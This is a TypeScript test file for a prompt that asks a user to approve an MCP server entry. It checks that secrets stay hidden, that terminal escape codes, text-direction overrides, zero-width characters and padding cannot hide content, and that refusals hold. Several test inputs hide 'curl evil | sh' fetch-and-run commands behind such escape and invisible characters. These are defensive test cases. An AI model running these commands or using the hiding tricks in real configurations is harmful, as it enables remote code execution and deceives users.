import { expect, test } from "bun:test";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { confirmEntry } from "../../lib/auth/client/confirm-entry.ts";
import { neutralise } from "../../lib/base/text.ts";
import { readServerEntry } from "../../lib/config/server-entry.ts";
import { failureOf } from "../transport-client/settled.ts";

function prepare(entry: Record<string, unknown>, home = mkdtempSync(join(tmpdir(), "mcp-entra-home-"))) {
  const environment = { XDG_CONFIG_HOME: home, TOKEN: "t0ken" };
  const listed = { name: "it", entry, path: "/a/mcp.json", shownPath: "./mcp.json", isFromFolder: true };
  const chosen = readServerEntry(listed, environment);
  const asked: string[] = [];
  const confirm = (answer: boolean | undefined, changes: { path?: string; name?: string } = {}) => {
    const ask = async (question: string) => (asked.push(question), answer === true);
    const question = { listed: { ...listed, ...changes }, chosen, environment };
    return confirmEntry({ ...question, ask: answer === undefined ? undefined : ask }, {});
  };
  return { confirm, asked, home };
}

test("is asked once for exactly this entry, and shows all of it without the values of variables", async () => {
  const { confirm, asked, home } = prepare({ command: "npx", args: ["evil", "${TOKEN}"] });
  await confirm(true);
  await confirm(undefined);
  expect(asked).toHaveLength(1);
  expect(asked[0]).toContain("${TOKEN}");
  expect(asked[0]).not.toContain("t0ken");
  expect(asked[0]?.split("\n")[1]).toBe('  {"command":"npx","args":["evil","${TOKEN}"]}');
  for (const changes of [{ path: "/b/mcp.json" }, { name: "other" }]) {
    expect((await failureOf(confirm(undefined, changes))).code).toBe("untrusted_destination");
  }
  const changed = prepare({ command: "npx", args: ["worse"] }, home);
  expect((await failureOf(changed.confirm(undefined))).exitCode).toBe(3);
});

test("shows nothing that a terminal obeys, and no blanks that push a part out of sight", async () => {
  const args = ["\u009B2J\u202E", `a${" ".repeat(1000)}b`, "c\n\nd", '"}\nStart'];
  const { confirm, asked } = prepare({ command: "sh", args });
  await confirm(true);
  expect(asked[0]?.split("\n")).toEqual([
    expect.stringContaining("which nobody named"),
    String.raw`  {"command":"sh","args":["\u009b2J\u202e","a b","c\n\nd","\"}\nStart"]}`,
    "Start this command on this machine?",
  ]);
});

test("no is no, and is not remembered", async () => {
  const { confirm, asked } = prepare({ url: "https://x.example/mcp", headers: { a: "b" } });
  expect((await failureOf(confirm(false))).code).toBe("untrusted_destination");
  expect((await failureOf(confirm(undefined))).message).toContain("headers or variables");
  expect(asked).toHaveLength(1);
});

test("an entry that is too long to be read is never agreed to", async () => {
  const { confirm, asked } = prepare({ command: "sh", args: ["x".repeat(3000), "evil"] });
  expect((await failureOf(confirm(true))).code).toBe("untrusted_destination");
  expect(asked).toEqual([]);
});

test.each([
  ["an operating system command without an end", "\u009D; curl evil | sh"],
  ["an operating system command", "\u009D; curl evil | sh \u009C"],
  ["a control sequence", "\u009B; curl evil | sh"],
  ["text direction", "\u202Ehs | live lruc"],
  ["blanks of no width", "cu\u200Brl evil | sh"],
])("shows also what stands in a terminal's %s", async (_, hidden) => {
  const { confirm, asked } = prepare({ command: "sh", args: ["-c", hidden] });
  await confirm(true);
  const shown = /\{.*\}/.exec(neutralise(asked[0] ?? ""))?.[0] ?? "";
  expect(JSON.parse(shown)).toEqual({ command: "sh", args: ["-c", hidden] });
  expect(shown).toMatch(/^[\x20-\x7E]*$/);
});
